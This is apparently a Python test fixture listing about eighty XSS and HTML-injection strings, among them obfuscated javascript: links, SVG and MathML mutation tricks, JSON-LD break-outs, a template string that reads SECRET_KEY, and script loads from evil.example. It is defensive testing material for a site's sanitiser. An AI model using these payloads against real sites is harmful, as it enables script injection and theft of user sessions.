"""Hostile inputs for every text field editors (or an import) can fill, written for this site.

Each entry is ``(name, text)``. The sanitising test stores each text in every text field of
every content model and renders every page kind; nothing in it may come out executable.
Families: script tags, event handlers, dangerous URL schemes in Markdown and in raw HTML,
entity and whitespace obfuscation, SVG and MathML, styles, frames and embeds, break-outs from
attributes, titles, JSON-LD and XML, and parser-confusion (mutation) tricks.
"""

HOSTILE_INPUTS = [
    # --- script tags
    ("script tag", "<script>alert('harness')</script>"),
    ("script tag, upper case with src", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    ("script tag never closed", "<script>alert(document.domain)"),
    ("script tag split by a nested one", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script tag with slash attribute", "<script/harness src=data:,alert(1)></script>"),
    ("double angle script", "<<script>alert(1);//<</script>"),
    ("script in Markdown paragraph", "Read **this** <script>fetch('/admin/')</script> now."),
    ("script inside a Markdown table", "| a | b |\n|---|---|\n| <script>alert(1)</script> | x |"),
    # --- event handlers
    ("img onerror", "<img src=x onerror=alert(1)>"),
    ("img onerror, mixed case", "<IMG SRC=x oNeRrOr=alert(1)>"),
    ("img onerror, slashes for spaces", '<img/src="x"/onerror=alert(1)>'),
    ("body onload", "<body onload=alert(1)>"),
    ("div onmouseover", '<div onmouseover="alert(1)">hover the harness</div>'),
    ("link with onclick", '<a href="/roles/" onclick="alert(1)">roles</a>'),
    ("input autofocus onfocus", "<input autofocus onfocus=alert(1)>"),
    ("details ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    ("source onerror in video", "<video><source onerror=alert(1)></video>"),
    ("handler with entity-encoded code", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>"),
    # --- Markdown links and images with dangerous schemes
    ("markdown javascript link", "[open the harness](javascript:alert(1))"),
    ("markdown javascript link, mixed case", "[open](JaVaScRiPt:alert(1))"),
    ("markdown javascript link, leading space", "[open]( javascript:alert(1))"),
    ("markdown javascript link, entity", "[open](&#106;avascript:alert(1))"),
    ("markdown data link", "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("markdown vbscript link", "[open](vbscript:msgbox(1))"),
    ("markdown reference link", "[open][evil]\n\n[evil]: javascript:alert(1)"),
    ("markdown autolink", "<javascript:alert(1)>"),
    ("markdown image with javascript src", "![diagram](javascript:alert(1))"),
    (
        "markdown image with svg data",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    ),
    ("markdown image alt break-out", '![x" onerror="alert(1)](/static/x.png)'),
    ("markdown image title break-out", '![alt](/x.png "t\\" onerror=\\"alert(1)")'),
    ("markdown link title break-out", '[x](/path "a\\" onmouseover=\\"alert(1)")'),
    # --- raw HTML links with dangerous schemes, obfuscated
    ("html javascript link", '<a href="javascript:alert(1)">harness</a>'),
    ("html link, decimal entities", '<a href="&#106;&#97;vascript:alert(1)">x</a>'),
    ("html link, hex entities no semicolons", '<a href="&#x6A&#x61vascript:alert(1)">x</a>'),
    ("html link, tab inside scheme", '<a href="java\tscript:alert(1)">x</a>'),
    ("html link, newline entity inside scheme", '<a href="java&#10;script:alert(1)">x</a>'),
    ("html link, control character before scheme", '<a href=" &#14; javascript:alert(1)">x</a>'),
    ("html vbscript link", '<a href="vbscript:msgbox(1)">x</a>'),
    ("html data link", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
    ("html image javascript src", '<img src="javascript:alert(1)">'),
    ("form action javascript", '<form action="javascript:alert(1)"><button>go</button></form>'),
    ("button formaction", '<button formaction="javascript:alert(1)">go</button>'),
    # --- SVG and MathML
    ("svg onload", "<svg onload=alert(1)>"),
    ("script inside svg", "<svg><script>alert(1)</script></svg>"),
    ("svg xlink javascript", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    (
        "svg animate href",
        "<svg><a><animate attributeName=href values=javascript:alert(1) />x</a></svg>",
    ),
    (
        "svg foreignObject iframe",
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    ),
    (
        "mathml maction xlink",
        '<math><maction actiontype=statusline xlink:href="javascript:alert(1)">x</maction></math>',
    ),
    (
        "mathml mglyph style confusion",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    ),
    (
        "svg style comment confusion",
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    ),
    # --- style
    (
        "style element with javascript url",
        "<style>body{background:url(javascript:alert(1))}</style>",
    ),
    (
        "style attribute with javascript url",
        '<div style="background:url(javascript:alert(1))">x</div>',
    ),
    ("style attribute with expression", '<p style="width:expression(alert(1))">x</p>'),
    ("stylesheet from another host", "<link rel=stylesheet href=//evil.example/x.css>"),
    # --- frames, embeds and document-level elements
    ("iframe javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("object data", '<object data="javascript:alert(1)"></object>'),
    ("embed src", '<embed src="data:text/html,<script>alert(1)</script>">'),
    ("base href", '<base href="javascript:alert(1)//">'),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("frameset onload", "<frameset onload=alert(1)>"),
    ("noscript title confusion", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("comment confusion", '<!--<img src="--><img src=x onerror=alert(1)//">'),
    # --- break-outs from attributes, titles, JSON-LD and XML (plain-text fields)
    ("attribute break-out, double quote", '"><script>alert(1)</script>'),
    ("attribute break-out, single quote", "'><img src=x onerror=alert(1)>"),
    ("attribute injection, double quote", '" onmouseover="alert(1)" x="'),
    ("attribute injection, single quote", "' autofocus onfocus='alert(1)' x='"),
    ("title break-out", "</title><script>alert(1)</script>"),
    ("textarea break-out", "</textarea><script>alert(1)</script>"),
    ("JSON-LD break-out", "</script><script>alert(1)</script>"),
    ("JSON-LD break-out, upper case", "</SCRIPT ><img src=x onerror=alert(1)>"),
    (
        "JSON-LD string break-out",
        '", "@type": "Person", "name": "x</script><script>alert(1)</script>',
    ),
    ("JSON-LD line separators", "Harness\u2028Engineer\u2029</script>"),
    ("XML CDATA break-out", "]]><script>alert(1)</script><![CDATA["),
    ("style break-out", "</style><script>alert(1)</script>"),
    # --- encodings and look-alikes
    ("percent-encoded script", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("already-escaped script", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("fullwidth brackets", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("NUL byte before script", "Harness\x00<script>alert(1)</script>"),
    ("right-to-left override", "Harness \u202e<script>alert(1)</script>"),
    ("template syntax", "{{ settings.SECRET_KEY }}{% debug %}<script>alert(1)</script>"),
    # --- heading ids and DOM clobbering through Markdown
    ("heading that clobbers a global", "## __proto__\n\n## constructor\n\n<a id=location>x</a>"),
    ("form named like a global", '<form name="document"><input name="cookie"></form>'),
]
